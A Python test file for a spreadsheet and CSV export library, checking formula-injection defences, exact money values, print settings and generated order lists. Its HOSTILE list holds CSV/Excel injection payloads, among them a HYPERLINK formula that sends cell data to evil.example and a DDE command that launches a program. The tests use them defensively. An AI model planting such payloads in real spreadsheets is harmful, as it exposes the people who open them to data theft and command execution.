"""Workbooks and CSV: text stays text, money is exact, and a sheet is made to be printed."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from paper_samples import HEADING, orders
from python_calamine import CalamineWorkbook

from millpond.errors import InputError
from millpond.paper import (
    Account,
    Booking,
    Charge,
    Label,
    LabelSheet,
    Line,
    MakersOrder,
    PackingBy,
    PackingList,
    Payment,
    PickUpList,
    Piece,
    Receipt,
    account_xlsx,
    labels_xlsx,
    makers_order_xlsx,
    packing_list_xlsx,
    pick_up_list_xlsx,
    receipt_xlsx,
)
from millpond.paper.sheets import Column, Kind, Table, books_xlsx, csv_bytes, xlsx
from millpond.paper.sheets.safe import is_risky

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "|calc",
    "＝1+1",
    "＋1",
    "%0A=1",
    '"=1+1',
    "{=1+1}",
    "=cmd|' /C calc'!A0",
    "http://evil.example",
    "mailto:a@b.example",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "_x0041_",
    "a\x00\x01b",
]


def table(rows: list[tuple[object, ...]], *columns: Column, **more: object) -> Table:
    return Table(title="表", columns=columns, rows=tuple(rows), **more)  # type: ignore[arg-type]


def rows_of(data: bytes, sheet: int = 0) -> list[list[object]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return [list(row) for row in book.get_sheet_by_index(sheet).to_python(skip_empty_area=False)]


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()}


def test_nothing_typed_becomes_a_formula_or_a_link_in_a_workbook() -> None:
    data = xlsx([table([(text,) for text in HOSTILE], Column(heading="=1+1"), total_word="=2+2")])
    for name, content in parts(data).items():
        root = ElementTree.fromstring(content)
        tags = {element.tag.rpartition("}")[2] for element in root.iter()}
        assert not tags & {"f", "hyperlink", "hyperlinks", "externalReference"}, name
        assert "evil.example" not in content or name == "xl/sharedStrings.xml"
    sheet = ElementTree.fromstring(parts(data)["xl/worksheets/sheet1.xml"])
    cells = [element for element in sheet.iter() if element.tag.endswith("}c")]
    assert {cell.get("t") for cell in cells} == {"s"}


def test_a_workbook_says_what_was_typed() -> None:
    shown = [row[0] for row in rows_of(xlsx([table([(text,) for text in HOSTILE], Column(heading="h"))]))[2:]]
    assert shown == [re.sub(r"[\x00-\x1f]", "", text.replace("\t", "").strip()) for text in HOSTILE]


def test_text_that_looks_like_a_formula_stays_text_when_it_is_edited() -> None:
    data = parts(xlsx([table([("=1+1",), ("王芳",)], Column(heading="h"))]))
    styles = ElementTree.fromstring(data["xl/styles.xml"])
    formats = next(element for element in styles.iter() if element.tag.endswith("}cellXfs"))
    quoted = {at for at, format in enumerate(formats) if format.get("quotePrefix") == "1"}
    sheet = ElementTree.fromstring(data["xl/worksheets/sheet1.xml"])
    style = {cell.get("r"): int(cell.get("s", "0")) for cell in sheet.iter() if cell.tag.endswith("}c")}
    assert style["A3"] in quoted
    assert style["A4"] not in quoted


def test_no_cell_of_csv_begins_like_a_formula() -> None:
    columns = (Column(heading="=1"), Column(heading="n", kind=Kind.MONEY))
    data = csv_bytes(table([(text, -150) for text in HOSTILE], *columns))
    assert data.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(read) == len(HOSTILE) + 1
    assert not any(is_risky(row[0]) and not row[0].startswith("'") for row in read)
    assert not any(row[0][:1] in "=+-@\t\r\n|%＝＋－＠" for row in read)
    assert {row[1] for row in read[1:]} == {"-1.50"}  # ours, and a number
    assert all(line.startswith('"') for line in data.decode("utf-8-sig").split("\r\n")[:-1])


@pytest.mark.parametrize(
    ("currency", "minor", "written"),
    [
        ("CNY", 5990, "59.9"),
        ("CNY", 1, "0.01"),
        ("CNY", -1234567, "-12345.67"),
        ("JPY", 5990, "5990"),
        ("KWD", 5990, "5.99"),
        ("CNY", 999_999_999_999_999, "9999999999999.99"),
    ],
)
def test_money_is_a_number_and_exact(currency: str, minor: int, written: str) -> None:
    data = parts(xlsx([table([(minor,)], Column(heading="h", kind=Kind.MONEY), currency=currency)]))
    sheet = ElementTree.fromstring(data["xl/worksheets/sheet1.xml"])
    value = [element.text for element in sheet.iter() if element.tag.endswith("}v")][-1]
    assert value is not None
    assert Decimal(value) == Decimal(written)
    places = {"CNY": "#,##0.00", "JPY": "#,##0", "KWD": "#,##0.000"}[currency]
    assert f'"{places}"' in data["xl/styles.xml"] or places == "#,##0" or places == "#,##0.00"
    csv_row = csv_bytes(
        table([(minor,)], Column(heading="h", kind=Kind.MONEY), currency=currency)
    ).splitlines()[1]
    assert Decimal(csv_row.decode().strip('"')) == Decimal(written)


def test_every_kind_of_column_and_a_total() -> None:
    columns = (
        Column(heading="名"),
        Column(heading="数", kind=Kind.INTEGER, total=True),
        Column(heading="钱", kind=Kind.MONEY, total=True),
        Column(heading="日", kind=Kind.DATE),
        Column(heading="✓", kind=Kind.TICK),
    )
    filled = table([("王", 2, 150, date(2026, 12, 5), True), ("李", 3, 50, None, False)], *columns)
    assert rows_of(xlsx([filled])) == [
        ["表", "", "", "", ""],
        ["名", "数", "钱", "日", "✓"],
        ["王", 2.0, 1.5, date(2026, 12, 5), "☑"],
        ["李", 3.0, 0.5, "", "☐"],
        ["合计", 5.0, 2.0, "", ""],
    ]


def test_a_sheet_is_made_to_be_printed() -> None:
    sheet = parts(xlsx([table([("王",)], Column(heading="h"))]))["xl/worksheets/sheet1.xml"]
    assert 'paperSize="9"' in sheet
    assert 'fitToHeight="0"' in sheet
    assert 'topLeftCell="A3"' in sheet
    assert "&amp;P / &amp;N" in sheet
    assert "_xlnm.Print_Titles" in parts(xlsx([table([("王",)], Column(heading="h"))]))["xl/workbook.xml"]


def test_a_chinese_column_is_twice_as_wide() -> None:
    def width(text: str) -> float:
        sheet = parts(xlsx([table([(text,)], Column(heading="h"))]))["xl/worksheets/sheet1.xml"]
        found = re.search(r'<col [^>]*width="([\d.]+)"', sheet)
        assert found is not None
        return float(found[1])

    assert width("东北大米五公斤袋装") - width("a" * 9) == pytest.approx(9, abs=0.1)


def test_sheets_have_names_that_excel_allows() -> None:
    tables = [
        Table(title=title, columns=(Column(heading="h"),), rows=())
        for title in ("a/b:c*d?[e]\\'", "a/b:c*d?[e]\\'", "长" * 50, "长" * 50, "History", "", "")
    ]
    book = CalamineWorkbook.from_filelike(io.BytesIO(xlsx(tables)))
    assert len(set(book.sheet_names)) == 7
    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\'") for name in book.sheet_names)
    assert book.sheet_names[4] == "History_"


def test_the_same_rows_give_the_same_bytes() -> None:
    made = [books_xlsx(table([("王",)], Column(heading="h")), author="团") for _ in range(2)]
    assert made[0] == made[1]


def test_a_table_is_checked_when_it_is_made() -> None:
    column = Column(heading="h", kind=Kind.INTEGER)
    for rows, says in (
        ([("x",)], r"rows\[0\]\[0\]: 'x' is no integer"),
        ([(1,), (1, 2)], r"rows\[1\]: 2 cells in 1 columns"),
        ([(10**15,)], "is no integer"),
        ([(1.5,)], "is no integer"),
        ([(True,)], "is no integer"),
    ):
        with pytest.raises(InputError, match=says):
            table(rows, column)


LISTED = orders(40)


def test_the_pick_up_list() -> None:
    rows = rows_of(pick_up_list_xlsx(PickUpList(heading=HEADING, orders=LISTED, show_prices=True), "zh"))
    assert rows[2][:5] == ["✓", "跟团号", "提货码", "姓名", "自提点"]
    assert len(rows) == 3 + 40 + 1
    assert sum(cell for cell in rows[-1][5:9] if isinstance(cell, float)) == sum(
        line.quantity for order in LISTED for line in order.lines
    )
    assert rows[-1][11] == pytest.approx(sum(order.amount for order in LISTED) / 100)
    shown = str(rows_of(pick_up_list_xlsx(PickUpList(heading=HEADING, orders=LISTED), "en")))
    assert "138" not in "".join(re.findall(r"\d{11}", shown))
    assert "Amount" not in shown


def test_with_many_items_they_stand_in_one_column() -> None:
    lines = tuple(Line(item=f"货 {i}", quantity=i + 1) for i in range(13))
    many = (LISTED[0].__class__(number=1, code="1", name="王", lines=lines),)
    rows = rows_of(pick_up_list_xlsx(PickUpList(heading=HEADING, orders=many), "zh"))
    assert "货 0 × 1；货 1 × 2" in str(rows[3])


@pytest.mark.parametrize("by", list(PackingBy))
@pytest.mark.parametrize("language", ["zh", "en"])
def test_packing_lists_add_up(by: PackingBy, language: str) -> None:
    rows = rows_of(packing_list_xlsx(PackingList(heading=HEADING, orders=LISTED, by=by), language))
    at = rows[2].index("数量" if language == "zh" else "Quantity")
    units = sum(line.quantity for order in LISTED for line in order.lines)
    assert sum(float(str(row[at])) for row in rows[3:-1]) == rows[-1][at] == units


def test_the_order_to_the_maker_and_its_pieces() -> None:
    data = MakersOrder(
        heading=HEADING,
        maker="厂",
        lines=(Line(item="校服", quantity=2, unit="件", price=8800, amount=17600, case_size=2),),
        charges=(Charge(words="开机费", amount=10000),),
        pieces=(
            Piece(number=7, item="校服", answers=(("身高", "132"), ("绣字", "=1+1"))),
            Piece(number=8, item="校服", answers=(("绣字", "安"),)),
        ),
    )
    made = makers_order_xlsx(data, "zh")
    assert rows_of(made)[-1][-1] == 276.0
    assert rows_of(made, 1)[2:] == [
        ["件号", "货品", "身高", "绣字"],
        [7.0, "校服", "132", "=1+1"],
        [8.0, "校服", "", "安"],
    ]


def test_receipt_account_and_labels() -> None:
    order = LISTED[0]
    goods = sum(line.amount or 0 for line in order.lines)
    receipt = Receipt(
        heading=HEADING,
        order=order,
        charges=(Charge(words="服务费", amount=100),),
        payments=(Payment(on=date(2026, 12, 4), words="现金", amount=500),),
    )
    assert rows_of(receipt_xlsx(receipt, "zh"))[-1][-1] == pytest.approx((goods + 100 - 500) / 100)
    account = Account(
        heading=HEADING,
        holder="王",
        opening=-100,
        bookings=(
            Booking(on=date(2026, 12, 1), words="米", charge=5200),
            Booking(on=date(2026, 12, 2), words="付", payment=5000),
        ),
    )
    assert [row[-1] for row in rows_of(account_xlsx(account, "en"))[3:]] == [-1.0, 51.0, 1.0, ""]
    label = Label(number=1, code="0001", name="王", lines=order.lines, scan="https://x.example")
    assert rows_of(labels_xlsx(LabelSheet(heading=HEADING, labels=(label,)), "zh"))[3][1] == "0001"
